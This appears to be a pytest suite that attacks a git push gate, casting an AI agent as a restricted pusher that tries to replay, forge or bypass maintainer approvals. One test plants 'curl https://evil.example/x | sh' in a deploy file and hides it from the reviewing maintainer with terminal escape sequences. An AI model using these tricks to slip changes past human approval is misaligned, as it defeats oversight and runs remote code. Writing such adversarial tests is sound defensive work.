"""An attacker's review of maintainer approvals, through real pushes into a gated bare repository.

The attacker is the agent (`REMOTE_USER=agent-1`, a restricted pusher, speaking git's protocol
itself where `git push` would not say what it wants: `support.rawpush`) and a human who is
neither a maintainer nor trusted (`bob`). The approvals are the maintainer's own (`gate
approve`'s code: `gatecore.trusted.approve.seal` and `write`, or the command itself where what it
shows matters), pushed by `alice`. Each test says what it tried; each holds the gate to failing
closed: a rejection with its code, and no ref - the approval uses included - changed by it.
"""

from __future__ import annotations

import shlex
import subprocess
import time
from dataclasses import dataclass
from pathlib import Path

import pytest
from support.cli import cli
from support.gitutil import AGENT, HUMAN, git
from support.keygen import needs_ssh_keygen, ssh_key
from support.rawpush import raw_push
from support.server import APPROVALS_POLICY as POLICY
from support.server import Server
from support.verdicts import refused

from gatecore.adapters.config import load_keyfile
from gatecore.records import approvals
from gatecore.reserved.approvalrefs import APPROVALS_PREFIX, USES_PREFIX
from gatecore.signing.keys import SigningKey
from gatecore.trusted import approve

ALICE = {"REMOTE_USER": "alice"}
ADMIN = {"REMOTE_USER": "admin"}
BOB = {"REMOTE_USER": "bob"}
AGENT_PUSH = {"REMOTE_USER": "agent-1"}


@dataclass
class Adv:
    server: Server
    key: SigningKey  # alice's approval key
    key_file: Path
    base: str
    tmp: Path

    @property
    def work(self) -> Path:
        return self.server.work.path

    def agent_commit(self, path: str = "ci/deploy.yml", text: str = "deploy: agent\n",
                     message: str | None = None) -> str:
        self.server.work.write(path, text)
        return self.server.work.commit(message or f"agent writes {path}", identity=AGENT)

    def push(self, *refspecs: str, who: dict[str, str] = AGENT_PUSH,
             extra: tuple[str, ...] = ()) -> subprocess.CompletedProcess[str]:
        return self.server.push(*refspecs, pusher_env=who, extra=extra)

    def request(self, ref: str, old: str, new: str, paths: tuple[str, ...] = ("ci/deploy.yml",),
                lifetime: int = 3600, approver: str = "alice") -> approve.Request:
        return approve.Request("demo/repo", ref, old, new, paths, approver, lifetime)

    def approval(self, req: approve.Request, at: int | None = None, ssh: Path | None = None) -> str:
        """The approval's ref, written in the work repository (not pushed)."""
        at = int(time.time()) if at is None else at
        made, data = approve.seal(req, at, None if ssh else self.key, ssh)
        return approve.write(self.work, req, data, made.id, at)

    def approve(self, req: approve.Request, at: int | None = None, ssh: Path | None = None) -> str:
        ref = self.approval(req, at, ssh)
        out = self.push(f"{ref}:{ref}", who=ALICE)
        assert out.returncode == 0, out.stderr
        return ref

    def uses(self) -> dict[str, str]:
        return {r: v for r, v in self.server.refs().items() if r.startswith(USES_PREFIX)}


@pytest.fixture
def adv(tmp_path: Path) -> Adv:
    out = cli("keys", "generate", "--alg", "ed25519", "--id", "alice-approval", "--purpose", "approval", "--out",
              str(tmp_path / "alice.key"))
    assert out.returncode == 0, out.stderr
    (tmp_path / "s").mkdir()
    s = Server(tmp_path / "s", policy=POLICY, keyring=out.stdout)
    s.work.write("README", "hello\n")
    s.work.write("ci/deploy.yml", "deploy: true\n")
    base = s.work.commit("base", identity=HUMAN)
    assert s.push("main").returncode == 0
    return Adv(s, load_keyfile(tmp_path / "alice.key"), tmp_path / "alice.key", base, tmp_path)


def _use_of(ref: str) -> str:
    return USES_PREFIX + ref[len(APPROVALS_PREFIX):]


# --- used twice ---------------------------------------------------------------------------------


def test_a_spent_approval_is_not_replayed_after_a_rewind_nor_by_a_raw_push(adv: Adv) -> None:
    """The approved update lands once; an admin rewinds main; the agent pushes the identical
    update again, through git and through the protocol itself: GATE-APPROVAL-USED."""
    head = adv.agent_commit()
    ref = adv.approve(adv.request("refs/heads/main", adv.base, head))
    assert adv.push("main").returncode == 0
    assert adv.push(f"+{adv.base}:refs/heads/main", who=ADMIN).returncode == 0
    before = adv.server.refs()
    assert refused(adv.push("main"), "GATE-APPROVAL-USED")
    raw = raw_push(adv.work, adv.server.bare, [(adv.base, head, "refs/heads/main")], AGENT_PUSH)
    assert not raw.ok("refs/heads/main") and "GATE-APPROVAL-USED" in raw.stderr, raw.stderr
    assert adv.server.refs() == before and adv.server.ref(_use_of(ref)) == adv.server.ref(ref)


@pytest.mark.parametrize("who", [AGENT_PUSH, BOB, ALICE, ADMIN], ids=lambda w: w["REMOTE_USER"])
def test_nobody_deletes_or_moves_a_use_record(adv: Adv, who: dict[str, str]) -> None:
    """With git (delete, force) and with the protocol (the use's value, the zero id, another
    value stated as old): the use record stays."""
    head = adv.agent_commit()
    ref = adv.approve(adv.request("refs/heads/main", adv.base, head))
    assert adv.push("main").returncode == 0
    use = _use_of(ref)
    record = adv.server.ref(use)
    assert record is not None
    before = adv.server.refs()
    assert refused(adv.push(f":{use}", who=who), "GATE-APPROVAL-REF")
    assert refused(adv.push(f"+{adv.base}:{use}", who=who), "GATE-APPROVAL-REF")
    zero = "0" * 40
    for old in (record, zero, adv.base):
        raw = raw_push(adv.work, adv.server.bare, [(old, zero, use)], who)
        assert not raw.ok(use), (old, raw.status)
    assert adv.server.refs() == before


def test_an_approval_is_not_re_pushed_under_another_id(adv: Adv) -> None:
    """The record of (main, A, C) pushed by its approver as the approval of another update
    (another ref, the tag the agent would push, another old value): GATE-APPROVAL-MALFORMED."""
    head = adv.agent_commit()
    ref = adv.approve(adv.request("refs/heads/main", adv.base, head))
    record = adv.server.ref(ref)
    zero = "0" * 40
    for other in (("refs/heads/other", zero, head), ("refs/tags/v1", zero, head), ("refs/heads/main", zero, head)):
        name = APPROVALS_PREFIX + approvals.approval_id("demo/repo", *other)
        before = adv.server.refs()
        out = adv.push(f"{record}:{name}", who=ALICE)
        assert refused(out, "GATE-APPROVAL-MALFORMED") and adv.server.refs() == before, out.stderr


def test_one_approval_does_not_serve_two_refs_of_one_push(adv: Adv) -> None:
    """main (approved) with a branch and a tag at the same commit, atomic or not: refused whole,
    nothing spent."""
    head = adv.agent_commit()
    adv.approve(adv.request("refs/heads/main", adv.base, head))
    git(adv.work, "tag", "-a", "-m", "v1", "v1", head)
    before = adv.server.refs()
    for extra in ((), ("--atomic",)):
        for refspecs in (("main", "HEAD:refs/heads/other"), ("refs/tags/v1", "main")):
            out = adv.push(*refspecs, extra=extra)
            assert refused(out, "GATE-FROZEN-PATH"), out.stderr
            assert adv.server.refs() == before
    assert adv.push("main").returncode == 0  # still unspent


def test_an_approval_pushed_with_the_write_it_approves_does_not_count(adv: Adv) -> None:
    """alice pushes the agent's commit and its approval in one push: the approval was not on the
    server before it, so it serves nothing (docs/approvals.md)."""
    head = adv.agent_commit()
    ref = adv.approval(adv.request("refs/heads/main", adv.base, head))
    before = adv.server.refs()
    out = adv.push("main", f"{ref}:{ref}", who=ALICE, extra=("--atomic",))
    assert refused(out, "GATE-FROZEN-PATH") and adv.server.refs() == before, out.stderr


def test_a_deleted_and_recreated_branch_does_not_reuse_its_creation_approval(adv: Adv) -> None:
    """Approved: creating refs/heads/feat at the agent's commit. It lands; the branch is deleted
    (by the admin); the agent creates it again at the same commit: GATE-APPROVAL-USED."""
    head = adv.agent_commit()
    git(adv.work, "checkout", "-q", "-B", "feat")
    git(adv.work, "branch", "-q", "-f", "main", adv.base)
    adv.approve(adv.request("refs/heads/feat", "0" * 40, head))
    assert adv.push("feat").returncode == 0
    assert adv.push(":refs/heads/feat", who=ADMIN).returncode == 0
    before = adv.server.refs()
    out = adv.push("feat")
    assert refused(out, "GATE-APPROVAL-USED") and adv.server.refs() == before, out.stderr


def test_an_approval_stays_bound_to_its_commit(adv: Adv) -> None:
    """A later commit on top, the commit rebased onto a newer main, a merge of it: each another
    update, refused, and the approval unspent (it still serves its own update)."""
    head = adv.agent_commit()
    adv.approve(adv.request("refs/heads/main", adv.base, head))
    before = adv.server.refs()
    on_top = adv.agent_commit(text="deploy: agent, twice\n")
    assert refused(adv.push("main"), "GATE-FROZEN-PATH") and adv.server.refs() == before
    git(adv.work, "reset", "-q", "--hard", head)
    assert adv.push("main").returncode == 0  # the approved update itself
    assert on_top != head


# --- the push that uses an approval, and what it records ---------------------------------------


@pytest.mark.parametrize("locked", ["main", "other"])
def test_a_push_refused_while_recording_its_uses_spends_none_of_them(adv: Adv, locked: str) -> None:
    """A push relying on two approvals (main and other, each approved) is refused when the second
    use cannot be recorded (its ref locked: a crashed git, another push recording it). The first
    use was recorded all the same: the push was refused, yet an approval was spent, for good (a
    use is keyed by the update: that update can never be approved again). Uses are recorded in one
    ref transaction now: all of them, or none."""
    head = adv.agent_commit()
    refs = {name: adv.approve(adv.request(f"refs/heads/{name}", adv.base if name == "main" else "0" * 40, head))
            for name in ("main", "other")}
    lock = adv.server.bare / (_use_of(refs[locked]) + ".lock")
    lock.parent.mkdir(parents=True, exist_ok=True)
    lock.write_text("")
    before = adv.server.refs()
    out = adv.push("main", "HEAD:refs/heads/other")
    assert refused(out, "GATE-APPROVAL-USED"), out.stderr
    assert adv.server.refs() == before, "a refused push spent an approval"
    lock.unlink()
    out = adv.push("main", "HEAD:refs/heads/other")
    assert out.returncode == 0, out.stderr
    assert set(adv.uses()) == {_use_of(r) for r in refs.values()}


def test_a_stale_old_value_spends_at_most_the_approval_and_lands_nothing(adv: Adv) -> None:
    """The agent states the approved old value after main moved on (a raw push): git refuses the
    update; nothing lands."""
    head = adv.agent_commit()
    adv.approve(adv.request("refs/heads/main", adv.base, head))
    git(adv.work, "checkout", "-q", "-B", "human", adv.base)
    adv.server.work.write("README", "moved\n")
    moved = adv.server.work.commit("human moves main", identity=HUMAN)
    assert adv.push("human:main", who=BOB).returncode == 0
    raw = raw_push(adv.work, adv.server.bare, [(adv.base, head, "refs/heads/main")], AGENT_PUSH)
    assert not raw.ok("refs/heads/main")
    assert adv.server.ref("refs/heads/main") == moved


# --- time, approvers, signatures ---------------------------------------------------------------


def test_the_clock_and_the_policy_at_the_time_of_use_decide(adv: Adv) -> None:
    """Created in the future, living longer than max_hours, max_hours lowered or the approver
    dropped after the approval was pushed: refused, nothing spent."""
    head = adv.agent_commit()
    now = int(time.time())
    before = adv.server.refs()
    future = adv.approval(adv.request("refs/heads/main", adv.base, head), at=now + 3600)
    assert refused(adv.push(f"{future}:{future}", who=ALICE), "GATE-APPROVAL-MALFORMED")
    git(adv.work, "update-ref", "-d", future)
    long = adv.approval(adv.request("refs/heads/main", adv.base, head, lifetime=73 * 3600))
    assert refused(adv.push(f"{long}:{long}", who=ALICE), "GATE-APPROVAL-MALFORMED")
    git(adv.work, "update-ref", "-d", long)
    assert adv.server.refs() == before
    adv.approve(adv.request("refs/heads/main", adv.base, head, lifetime=2 * 3600))
    policy = adv.server.policy_file
    policy.write_text(POLICY + "max_hours = 1\n")
    adv.server.install("--policy", str(policy))
    before = adv.server.refs()
    out = adv.push("main")
    assert refused(out, "GATE-APPROVAL-MALFORMED") and refused(out, "GATE-FROZEN-PATH"), out.stderr
    policy.write_text(POLICY.replace('approvers = ["alice", "release-*"]', 'approvers = ["release-*"]'))
    adv.server.install("--policy", str(policy))
    out = adv.push("main")
    assert refused(out, "GATE-APPROVAL-APPROVER") and adv.server.refs() == before, out.stderr


@needs_ssh_keygen
def test_an_ssh_signature_of_another_namespace_or_principal_never_serves(adv: Adv) -> None:
    """alice's key signs the approval's bytes for git's namespace (what a commit signature is);
    a key whose line lists a pattern approves only as that pattern, which no approver glob names
    as a person here; bob's key (listed, no namespaces= option) approves nothing."""
    from gatecore.signing import envelope
    from gatecore.signing.sshsig import signature_fingerprint

    alice, bob, anyone = adv.tmp / "alice_ssh", adv.tmp / "bob_ssh", adv.tmp / "any_ssh"
    signers = adv.tmp / "allowed_signers"
    signers.write_text(f'alice namespaces="git,gate-approval" {ssh_key(alice)}\nbob {ssh_key(bob)}\n'
                       f"* {ssh_key(anyone)}\n")
    adv.server.install("--allowed-signers", str(signers))
    head = adv.agent_commit()
    req = adv.request("refs/heads/main", adv.base, head)
    now = int(time.time())
    made = approvals.Approval(req.repository_id, req.ref, req.old, req.new, req.paths, "alice", now, now + 3600)
    signed = subprocess.run(["ssh-keygen", "-q", "-Y", "sign", "-n", "git", "-f", str(alice)],
                            input=envelope.pae(envelope.PAYLOAD_APPROVAL, made.payload()), capture_output=True,
                            check=True).stdout
    env = envelope.Envelope(envelope.PAYLOAD_APPROVAL, made.payload(),
                            approvals.SSH_KEYID_PREFIX + signature_fingerprint(signed), signed)
    ref = approve.write(adv.work, req, envelope.encode(env), made.id, now)
    before = adv.server.refs()
    assert refused(adv.push(f"{ref}:{ref}", who=ALICE), "GATE-APPROVAL-SIGNATURE")
    git(adv.work, "update-ref", "-d", ref)
    for key, approver in ((bob, "bob"), (bob, "alice"), (anyone, "*"), (anyone, "alice")):
        ref = adv.approval(adv.request("refs/heads/main", adv.base, head, approver=approver), ssh=key)
        out = adv.push(f"{ref}:{ref}", who=ALICE)
        assert refused(out, "GATE-APPROVAL-APPROVER"), (approver, out.stderr)
        git(adv.work, "update-ref", "-d", ref)
    assert adv.server.refs() == before


def test_a_push_refused_for_its_audit_line_spends_no_approval(adv: Adv) -> None:
    """The gate accepts the approved update and records its use, then cannot write the audit line
    (the log a directory): the push is refused, GATE-AUDIT-*, and the use stayed recorded: the
    approval spent by a push that landed nothing. Now the uses this push recorded are taken back."""
    head = adv.agent_commit()
    adv.approve(adv.request("refs/heads/main", adv.base, head))
    audit = adv.server.gate_dir / "audit.log"
    adv.server.settle()
    saved = audit.read_bytes()
    audit.unlink()
    audit.mkdir()
    before = adv.server.refs()
    out = adv.push("main")
    assert out.returncode != 0 and "GATE-AUDIT" in out.stderr, out.stderr
    assert adv.server.refs() == before, "a refused push spent an approval"
    audit.rmdir()
    audit.write_bytes(saved)
    assert adv.push("main").returncode == 0


def test_a_push_past_its_deadline_after_its_uses_spends_no_approval(adv: Adv) -> None:
    """The gate accepts the approved update and records its use, then waits for the audit log's
    lock (held by another push: here by the test, until the push ends): the deadline passes, and the
    watchdog refuses the push, GATE-HOOK-DEADLINE, taking the use back. (The lock never comes: the
    deadline passes for certain; a machine so slow that it passes before the use is recorded
    refuses the push all the same, and spends nothing.)"""
    import fcntl

    head = adv.agent_commit()
    adv.approve(adv.request("refs/heads/main", adv.base, head))
    adv.server.settle()
    policy = adv.server.gate_dir / "policy.toml"
    saved = policy.read_text()
    policy.write_text(saved + "[limits]\ndeadline_seconds = 3\n")
    before = adv.server.refs()
    with open(adv.server.gate_dir / "audit.log", "ab") as log:
        fcntl.flock(log, fcntl.LOCK_EX)
        out = adv.push("main")
    assert out.returncode != 0 and "GATE-HOOK-DEADLINE" in out.stderr, out.stderr
    assert adv.server.refs() == before, "a push refused at its deadline spent an approval"
    policy.write_text(saved)
    assert adv.push("main").returncode == 0


# --- what the maintainer is shown ---------------------------------------------------------------


def test_the_review_shows_no_terminal_control_from_the_agents_commit(adv: Adv) -> None:
    """The agent's commit message and author name carry terminal escapes: `ESC[8m` conceals
    everything printed after it (the change itself, and the question), an OSC 52 sequence writes
    the maintainer's clipboard. `gate approve` printed them raw in the commit's header (its
    changes were escaped, its header was git log's text): the maintainer saw a commit and no
    change, and approved a write they never saw. They are shown as escapes now."""
    adv.server.work.write("ci/deploy.yml", "deploy: true\nrun: curl https://evil.example/x | sh\n")
    git(adv.work, "add", "-A")
    git(adv.work, "commit", "-q", "-m", "tidy the deploy\n\n\x1b]52;c;ZWNobyBwd25lZA==\x07\x1b[8m\rfake",
        identity=("Agent \x1b[8mSmith", AGENT[1]))
    out = adv.push("main")
    assert refused(out, "GATE-FROZEN-PATH"), out.stderr
    line = next(ln for ln in out.stderr.splitlines() if "can approve this write" in ln)
    args = shlex.split(line[line.index("gate approve"):])[1:]
    maint = adv.tmp / "maint"
    git(adv.tmp, "clone", "-q", adv.server.url, str(maint))
    git(maint, "fetch", "-q", str(adv.work), "+HEAD:refs/agent/head")
    got = cli(*args, "--approver", "alice", "--key", str(adv.key_file), "--yes", "--no-push", cwd=maint)
    assert got.returncode == 0, got.stdout + got.stderr
    shown = got.stdout
    assert not any(c in shown for c in ("\x1b", "\x07", "\r")), repr(shown)
    assert "\\x1b[8m" in shown and "+run: curl https://evil.example/x | sh" in shown, shown


# --- malformed records: refused with their code, never an internal error ------------------------


def test_an_approval_record_of_the_wrong_shape_is_refused_with_its_code(adv: Adv) -> None:
    """alice pushes, under the right id, a good seal in the wrong commit (a symlink, an executable,
    a directory, a second file, a parent, a tag), two signatures, an SSH signature that is not one,
    a time past 2**63, bytes that are not JSON: each refused with a GATE-APPROVAL-* code."""
    import base64
    import json

    from gatecore.signing import envelope, seal

    head = adv.agent_commit()
    req = adv.request("refs/heads/main", adv.base, head)
    now = int(time.time())
    made = approvals.Approval("demo/repo", req.ref, req.old, req.new, req.paths, "alice", now, now + 3600)
    good = envelope.encode(seal.sign(adv.key, envelope.PAYLOAD_APPROVAL, made.payload()))
    doc = json.loads(good)

    def obj(*args: str, data: bytes | None = None) -> str:
        return git(adv.work, *args, input=data).stdout.strip()

    def tree(*entries: tuple[str, str, str]) -> str:
        return obj("mktree", data="".join(f"{mode} {'tree' if mode == '040000' else 'blob'} {oid}\t{name}\n"
                                          for mode, oid, name in entries).encode())

    def record(data: bytes, mode: str = "100644") -> str:
        return obj("commit-tree", tree((mode, obj("hash-object", "-w", "--stdin", data=data), approvals.RECORD_FILE)),
                   "-m", "x")

    def sealed_with(**changes: object) -> bytes:
        return json.dumps({**doc, **changes}).encode()

    single = tree(("100644", obj("hash-object", "-w", "--stdin", data=good), approvals.RECORD_FILE))
    ssh_sig = base64.b64encode(b"-----BEGIN SSH SIGNATURE-----\nAAAA\n-----END SSH SIGNATURE-----\n").decode()
    huge = json.loads(made.payload()) | {"created_at": 2**70}
    cases = {
        "symlink": record(good, "120000"), "executable": record(good, "100755"),
        "directory": obj("commit-tree", tree(("040000", single, approvals.RECORD_FILE)), "-m", "x"),
        "two files": obj("commit-tree", tree(("100644", obj("hash-object", "-w", "--stdin", data=good),
                                              approvals.RECORD_FILE),
                                             ("100644", obj("hash-object", "-w", "--stdin", data=b"x"), "b")),
                         "-m", "x"),
        "a parent": obj("commit-tree", single, "-p", adv.base, "-m", "x"),
        "a tag": obj("mktag", data=f"object {obj('commit-tree', single, '-m', 'x')}\ntype commit\ntag t\n"
                                   "tagger a <a@b> 1 +0000\n\nx\n".encode()),
        "two signatures": record(sealed_with(signatures=doc["signatures"] * 2)),
        "not an SSH signature": record(sealed_with(signatures=[{"keyid": "ssh:SHA256:x", "sig": ssh_sig}])),
        "past 2**63": record(sealed_with(payload=base64.b64encode(json.dumps(huge).encode()).decode())),
        "not JSON": record(b"\xff\xfe{"),
    }
    name = APPROVALS_PREFIX + made.id
    before = adv.server.refs()
    for what, oid in cases.items():
        out = adv.push(f"{oid}:{name}", who=ALICE)
        assert out.returncode != 0 and "INTERNAL" not in out.stderr and "Traceback" not in out.stderr, what
        assert refused(out, "GATE-APPROVAL-SIGNATURE" if what.startswith("not an SSH") else "GATE-APPROVAL-MALFORMED"), \
            (what, out.stderr)
    assert adv.server.refs() == before
